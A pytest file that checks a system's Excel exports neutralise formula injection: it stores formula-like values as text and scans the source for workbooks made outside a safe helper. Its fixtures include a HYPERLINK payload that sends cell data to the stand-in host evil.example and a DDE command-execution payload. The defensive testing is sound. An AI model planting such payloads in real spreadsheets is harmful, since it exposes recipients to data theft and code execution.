"""Formula injection (issue 8 item 4): every workbook the system writes shows "=HYPERLINK(...)" as inert text.

Every writer makes its workbook with excel.workbooks.new_workbook and
saves it with to_bytes, which stores every string as a text cell (quotePrefix
where it begins like a formula); the source scan below fails on a workbook
made anywhere else, so a new export cannot forget it. Since issue 12 item 18
the value itself is kept as it was (no leading '): see test_text_cells.py.
"""

import ast
import datetime as dt
import io
from pathlib import Path
from types import SimpleNamespace

import pytest
from openpyxl import load_workbook

from accounts.reset import reset_codes_workbook
from excel.report import ImportReport, RowResult, Status
from excel.workbooks import FORMULA_TRIGGERS, new_workbook, result_workbook, safe_value, to_bytes
from orgs.codes import codes_workbook
from people.export import members_workbook
from people.models import Person

ROOT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"点击领取")'
EVILS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
WHEN = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)


def cells(content: bytes) -> list:
    wb = load_workbook(io.BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def assert_inert(content: bytes, expected: str = EVIL) -> None:
    found = cells(content)
    assert not [c.coordinate for c in found if c.data_type == "f"], "a live formula was written"
    triggered = [c for c in found if isinstance(c.value, str) and c.value.startswith(FORMULA_TRIGGERS)]
    assert all(c.data_type == "s" and c.quotePrefix for c in triggered), "text like a formula without quotePrefix"
    assert expected in [c.value for c in found]  # the value as it was, stored as text


@pytest.mark.parametrize("value", EVILS)
def test_safe_value_keeps_the_value(value):
    assert safe_value(value) == value
    assert safe_value("a\x00b\x1f") == "ab"  # only what XML cannot hold goes


def test_to_bytes_neutralises_cells_written_any_way():
    wb = new_workbook()
    ws = wb.active
    ws.append(EVILS)
    ws["A3"] = EVIL
    ws.cell(row=4, column=1, value=EVIL)
    found = cells(to_bytes(wb))
    assert all(c.data_type == "s" and c.quotePrefix for c in found)
    assert {c.value for c in found} == {v.replace("\r", "\n") for v in EVILS}  # XML reads CR as LF


def test_result_workbook_of_an_upload_is_inert():
    report = ImportReport(headers=["姓名", "身份证号码"])
    report.add(RowResult(row=2, status=Status.FAILED, message=EVIL, cells=[EVIL, "1"]))
    assert_inert(result_workbook(report))


def test_registration_codes_workbook_is_inert():
    org = SimpleNamespace(full_name=EVIL, short_name="=1+1")
    assert_inert(codes_workbook([SimpleNamespace(org=org, code="ABCD1234", expires_at=WHEN)]))


def test_reset_codes_workbook_is_inert():
    person = SimpleNamespace(name=EVIL, id_number_masked="320102********1234")
    assert_inert(reset_codes_workbook([SimpleNamespace(person=person, code="12345678", expires_at=WHEN)]))


@pytest.mark.django_db
def test_members_export_is_inert_even_for_a_name_that_came_from_an_upload(tree):
    Person.objects.filter(pk=tree.member.pk).update(name=EVIL)
    assert_inert(members_workbook(actor=tree.branch_admin, org=tree.branch))


@pytest.mark.django_db
def test_progress_export_is_inert(tree):
    from progress.exports import progress_workbook

    tree.general.__class__.objects.filter(pk=tree.branch.pk).update(short_name=EVIL)
    try:
        content = progress_workbook(org=tree.general)
    except Exception as e:  # the progress tables may need their aggregates first
        pytest.skip(f"progress export unavailable here: {e}")
    assert_inert(content)


def test_no_workbook_is_created_outside_the_helper():
    """A workbook made anywhere but excel/workbooks.py would skip the neutraliser."""
    offenders = []
    for path in ROOT.rglob("*.py"):
        rel = path.relative_to(ROOT)
        if rel.parts[0] in (".venv", "bench", "staticfiles") or "tests" in rel.parts or "migrations" in rel.parts:
            continue
        if rel.as_posix() == "excel/workbooks.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Call):
                name = getattr(node.func, "id", None) or getattr(node.func, "attr", None)
                if name == "Workbook" or (name == "add_worksheet"):
                    offenders.append(f"{rel}:{node.lineno}")
            if (isinstance(node, ast.ImportFrom) and node.module == "xlsxwriter") or (
                isinstance(node, ast.Import) and any(a.name == "xlsxwriter" for a in node.names)
            ):
                offenders.append(f"{rel}:{node.lineno} (xlsxwriter)")
    assert not offenders, f"use excel.workbooks.new_workbook/to_bytes instead: {offenders}"
